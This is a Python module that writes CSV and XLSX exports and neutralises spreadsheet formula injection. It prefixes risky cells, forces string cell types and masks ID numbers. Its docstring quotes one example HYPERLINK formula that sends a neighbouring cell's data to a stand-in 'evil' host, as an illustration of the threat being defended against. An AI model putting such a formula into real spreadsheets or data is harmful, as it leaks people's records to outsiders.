"""The one writer of spreadsheet exports (CSV and XLSX): no cell can ever become a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some programs,
tab or carriage return) as a formula: `=HYPERLINK("http://evil/?"&B2, "点击")` typed as a
partner's remarks would send the row beside it away when an archivist opens the 汇总表.
What people typed stays as typed in the record; only here, on the way out, such a cell is
prefixed with `'` (OWASP's advice), and every XLSX text cell is written as a string,
never as a formula. Every export goes through `csv_bytes` / `xlsx_bytes`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, Literal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from archive.masking import mask_id_numbers

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"

TableFormat = Literal["xlsx", "csv"]

# OWASP (CSV Injection) and ASVS 1.2.10: = + - @ tab, carriage return, NUL; and their
# full-width forms, which a Chinese input method produces and some spreadsheets accept.
FORMULA_STARTS = frozenset("=+-@\t\r\n\0＝＋－＠")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (leading spaces ignored)."""
    stripped = text.lstrip(" \u3000")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralize(value: Any) -> Any:
    """The value as an export cell: text that could start a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    if isinstance(value, (int, float)):
        return value
    text = str(value)
    return "'" + text if is_formula_like(text) else text


@dataclass(frozen=True)
class Attachment:
    """A rendered file: the name people see (Chinese), an ASCII fallback, type and bytes."""

    filename: str
    ascii_filename: str
    media_type: str
    content: bytes


@dataclass(frozen=True)
class Heading:
    """The block above a table: title, then 部门 and 制表日期."""

    title: str
    department: str
    made_on: date

    def lines(self) -> list[list[str]]:
        return [[self.title], ["部门", self.department, "制表日期", self.made_on.isoformat()]]


@dataclass(frozen=True)
class Table:
    """One table of an export: header row and rows, optionally a heading block and widths."""

    columns: Sequence[str]
    rows: Iterable[Sequence[Any]]
    heading: Heading | None = None
    widths: Sequence[int] | None = None
    sheet_title: str = "Sheet1"
    mask_ids: bool = True
    """ID numbers masked in every cell; only for callers who may see them is this False."""

    def cell(self, value: Any) -> Any:
        """A value as written: ID numbers masked if asked, formula starts neutralised."""
        if self.mask_ids and isinstance(value, str):
            value = mask_id_numbers(value)
        return neutralize(value)


def csv_bytes(table: Table) -> bytes:
    """CSV in UTF-8 with a byte-order mark, so that Excel opens the Chinese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if table.heading is not None:
        writer.writerows([[table.cell(value) for value in line] for line in table.heading.lines()])
        writer.writerow([])
    writer.writerow([table.cell(value) for value in table.columns])
    writer.writerows([table.cell(value) for value in row] for row in table.rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(*tables: Table) -> bytes:
    """A workbook with one sheet per table."""
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    workbook.remove(first)
    for table in tables:
        _fill_sheet(workbook.create_sheet(_sheet_title(table.sheet_title)), table)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def table_bytes(table: Table, fmt: TableFormat) -> tuple[bytes, str]:
    """The table as CSV or XLSX, with its media type."""
    if fmt == "xlsx":
        return xlsx_bytes(table), XLSX_MEDIA_TYPE
    return csv_bytes(table), CSV_MEDIA_TYPE


def _sheet_title(title: str) -> str:
    # Excel refuses these characters in sheet names and names over 31 characters.
    cleaned = "".join(" " if char in "[]:*?/\\" else char for char in title).strip() or "Sheet1"
    return cleaned[:31]


def _write_row(sheet: Worksheet, table: Table, row: int, values: Sequence[Any]) -> None:
    """One row; text cells are typed as strings so that nothing is ever stored as a formula."""
    for column, value in enumerate(values, start=1):
        cell_value = table.cell(value)
        if isinstance(cell_value, str):
            # Excel refuses control characters; a partner record should never stop a report.
            cell_value = ILLEGAL_CHARACTERS_RE.sub("", cell_value)
        cell = sheet.cell(row=row, column=column)
        cell.value = cell_value
        if isinstance(cell_value, str):
            cell.data_type = "s"


def _fill_sheet(sheet: Worksheet, table: Table) -> None:
    """Heading block, bold frozen header row, column widths, then the rows."""
    row = 1
    if table.heading is not None:
        _write_row(sheet, table, 1, [table.heading.title])
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=max(len(table.columns), 1))
        sheet.cell(row=1, column=1).font = Font(bold=True, size=14)
        sheet.cell(row=1, column=1).alignment = Alignment(horizontal="center")
        _write_row(sheet, table, 2, table.heading.lines()[1])
        row = 4  # a blank line under the heading
    header_row = row
    _write_row(sheet, table, header_row, table.columns)
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
        cell.alignment = Alignment(horizontal="center", vertical="center")
    for row, values in enumerate(table.rows, start=header_row + 1):
        _write_row(sheet, table, row, values)
    for index, column_width in enumerate(table.widths or (), start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column_width
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
